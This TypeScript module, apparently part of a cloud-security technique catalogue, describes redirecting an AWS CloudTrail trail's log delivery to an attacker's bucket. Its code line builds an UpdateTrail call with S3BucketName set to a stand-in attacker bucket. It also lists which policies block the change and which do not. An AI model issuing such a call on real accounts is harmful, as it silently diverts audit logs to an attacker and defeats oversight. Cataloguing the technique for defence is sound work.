import type { Trail } from '../model/snapshot.ts';
import { technique } from '../model/technique.ts';
import { ATTACKERS_BUCKET } from './parts/attackers-bucket.ts';
import { accountTrails, trailCall } from './parts/trail-update.ts';

export default technique<Trail>({
  id: 'cloudtrail-redirect-bucket',
  title: { en: 'Send the trail to another bucket', ja: '証跡の配信先を別のバケットに変える' },
  goal: 'redirect',
  mitre: ['T1685.002'],
  why: {
    en: 'The trail reports that it is logging, and every new log file goes to a bucket of the attacker’s. In the old bucket nothing is missing but what happens from now on.',
    ja: '証跡は「記録中」のまま、新しいログファイルはすべて攻撃者のバケットに届きます。元のバケットには、以後の記録だけが届かなくなります。',
  },
  sources: [
    'https://docs.aws.amazon.com/awscloudtrail/latest/APIReference/API_UpdateTrail.html',
    'https://docs.aws.amazon.com/awscloudtrail/latest/userguide/create-s3-bucket-policy-for-cloudtrail.html',
  ],
  by: ['owner'],
  blockedBy: {
    en: 'A service control policy that denies cloudtrail:UpdateTrail on the trail. No condition key tells which bucket it is, so every change has to be denied.',
    ja: '証跡に対する cloudtrail:UpdateTrail を拒否するサービスコントロールポリシー (SCP)。どのバケットかを判別する条件キーはないため、変更をすべて拒否する必要があります。',
  },
  notBlockedBy: {
    en: 'Object Lock and the policy of the old bucket. A resource control policy: CloudTrail’s own calls take none. A check that asks only whether the trail is logging.',
    ja: '元のバケットのオブジェクトロックやバケットポリシー。リソースコントロールポリシー (RCP) も CloudTrail の API には効きません。「記録中」かどうかだけの確認でも見つかりません。',
  },
  targets: accountTrails,
  ways: (trail) => [[trailCall('UpdateTrail', trail, { S3BucketName: ATTACKERS_BUCKET })]],
  harm: { en: 'new logs go to the attacker', ja: '新しいログが攻撃者に届く' },
});
